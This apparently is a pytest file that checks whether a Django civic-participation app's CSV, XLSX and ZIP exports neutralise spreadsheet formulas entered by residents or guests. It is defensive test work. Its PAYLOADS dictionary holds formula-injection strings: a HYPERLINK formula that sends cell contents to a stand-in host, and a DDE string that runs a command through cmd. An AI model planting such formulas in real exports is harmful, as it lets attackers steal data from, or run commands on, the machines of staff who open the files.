"""Hardening #18, item 2: text typed by residents or guests never becomes a live formula in a CSV or XLSX export.

Each export gets a hostile title, answer or name through the real services, is downloaded the way a staff member
(or, for open data, anyone) downloads it, and every cell is read back: the hostile text is there, but as text.
"""

import csv
import io
import zipfile

import pytest
from django.contrib.auth.models import AnonymousUser
from django.urls import reverse
from openpyxl import load_workbook

# Written out here rather than imported, so the test states the rule on its own.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

PAYLOADS = {
    "hyperlink": '=HYPERLINK("http://x/?"&A2,"Ver")',
    "dde": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=HYPERLINK(A2)",
}


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _csv_cells(content: bytes) -> list[list]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def _xlsx_cells(content: bytes) -> list[list]:
    workbook = load_workbook(io.BytesIO(content))
    return [list(row) for sheet in workbook.worksheets for row in sheet.iter_rows(values_only=True)]


def _xlsx_formulas(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        cell.coordinate
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


# --- One builder per export: put ``payload`` where a resident or guest types, return the downloaded file. ---------


def _agenda_event(make_user, payload):
    from innova.agenda import services
    from innova.agenda.testing import make_event

    organiser = make_user("facilitator")
    event = make_event(organiser=organiser)
    services.registration_create(event=event, name=payload, phone="3001112233", consent=True)
    return organiser, event


def agenda_csv(client, make_user, make_problem, payload):
    organiser, event = _agenda_event(make_user, payload)
    client.force_login(organiser)
    return "csv", client.get(reverse("agenda:attendance_csv", args=[event.pk]))


def agenda_xlsx(client, make_user, make_problem, payload):
    organiser, event = _agenda_event(make_user, payload)
    client.force_login(organiser)
    return "xlsx", client.get(reverse("agenda:attendance_xlsx", args=[event.pk]))


def brainstorm_csv(client, make_user, make_problem, payload):
    from innova.brainstorms.services.boards import board_create, guest_join
    from innova.brainstorms.services.cards import card_post
    from innova.brainstorms.services.participation import Someone

    board = board_create(actor=make_user("facilitator"), prompt="¿Qué hacemos?", allow_guests=True)
    guest = guest_join(board=board, nickname=payload[:40], accept_policy=True)
    card_post(board=board, someone=Someone(guest=guest), text="Más árboles en Yomasa")
    card_post(board=board, someone=Someone(user=make_user("citizen")), text=payload)
    return "csv", client.get(reverse("brainstorms:export_csv", args=[board.pk]))


def opendata_problems_csv(client, make_user, make_problem, payload):
    make_problem(title=payload)
    return "csv", client.get(reverse("opendata:download", args=["problems", "csv"]))


def _survey_answered(make_user, payload):
    from innova.surveys import services
    from innova.surveys.models import Kind

    author = make_user("facilitator")
    survey = services.survey_create(actor=author, title="Barrio", slug="barrio", published=True)
    section = services.section_create(actor=author, survey=survey, title="Su barrio")
    text = services.question_create(actor=author, section=section, kind=Kind.SHORT_TEXT, text="¿Qué falta?")
    number = services.question_create(
        actor=author, section=section, kind=Kind.NUMBER, text="Saldo", minimum=-100, maximum=100
    )
    anonymous = AnonymousUser()
    response = services.response_section_save(
        user=anonymous,
        survey=survey,
        respondent_key="k1",
        section=section,
        values={str(text.pk): payload, str(number.pk): -5},
    )
    services.response_submit(user=anonymous, survey=survey, response=response)
    return author, survey


def survey_csv(client, make_user, make_problem, payload):
    author, survey = _survey_answered(make_user, payload)
    client.force_login(author)
    response = client.get(reverse("surveys:export_csv", args=[survey.slug]))
    return "csv", response


def survey_xlsx(client, make_user, make_problem, payload):
    author, survey = _survey_answered(make_user, payload)
    client.force_login(author)
    return "xlsx", client.get(reverse("surveys:export_xlsx", args=[survey.slug]))


def polis_zip(client, make_user, make_problem, payload):
    from innova.debates.testing import make_debate
    from innova.opinions import services

    facilitator = make_user("facilitator")
    debate = make_debate(author=facilitator)
    services.statement_submit(user=facilitator, debate=debate, text=payload)
    client.force_login(facilitator)
    return "zip", client.get(reverse("opinions:export", args=[debate.pk]))


EXPORTS = [agenda_csv, agenda_xlsx, brainstorm_csv, opendata_problems_csv, survey_csv, survey_xlsx, polis_zip]


def _cells(kind: str, response) -> list:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if kind == "xlsx":
        assert _xlsx_formulas(content) == []
        return [cell for row in _xlsx_cells(content) for cell in row]
    if kind == "zip":
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            return [
                cell
                for name in archive.namelist()
                if name.endswith(".csv")
                for row in _csv_cells(archive.read(name))
                for cell in row
            ]
    return [cell for row in _csv_cells(content) for cell in row]


@pytest.mark.django_db
@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
@pytest.mark.parametrize("export", EXPORTS, ids=[e.__name__ for e in EXPORTS])
def test_hardening_02_formula_neutralised_in_export(client, make_user, make_problem, export, payload):
    kind, response = export(client, make_user, make_problem, payload)
    assert response.status_code == 200
    cells = _cells(kind, response)
    core = payload.strip()
    hostile = [c for c in cells if isinstance(c, str) and core in c]
    assert hostile, "the hostile text is in the export"
    assert all(c.startswith("'") for c in hostile), hostile
    live = [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_STARTS) and not _number(c)]
    assert live == []


@pytest.mark.django_db
def test_hardening_02_negative_number_answer_stays_a_number(client, make_user):
    author, survey = _survey_answered(make_user, "Más luz")
    client.force_login(author)
    xlsx = client.get(reverse("surveys:export_xlsx", args=[survey.slug])).content
    assert -5 in _xlsx_cells(xlsx)[1]
    csv_rows = _csv_cells(b"".join(client.get(reverse("surveys:export_csv", args=[survey.slug])).streaming_content))
    assert "-5" in csv_rows[1]


@pytest.mark.django_db
def test_hardening_02_csv_keeps_bom_and_streaming_where_it_had_them(client, make_user, make_problem):
    _kind, attendance = agenda_csv(client, make_user, make_problem, "Marleny")
    _kind, ideas = brainstorm_csv(client, make_user, make_problem, "Don Julio")
    assert attendance.content.startswith("\ufeff".encode()) and ideas.content.startswith("\ufeff".encode())
    _kind, answers = survey_csv(client, make_user, make_problem, "Más luz")
    assert answers.streaming
    assert not b"".join(answers.streaming_content).startswith("\ufeff".encode())
    _kind, problems = opendata_problems_csv(client, make_user, make_problem, "Huecos")
    assert not b"".join(problems.streaming_content).startswith("\ufeff".encode())
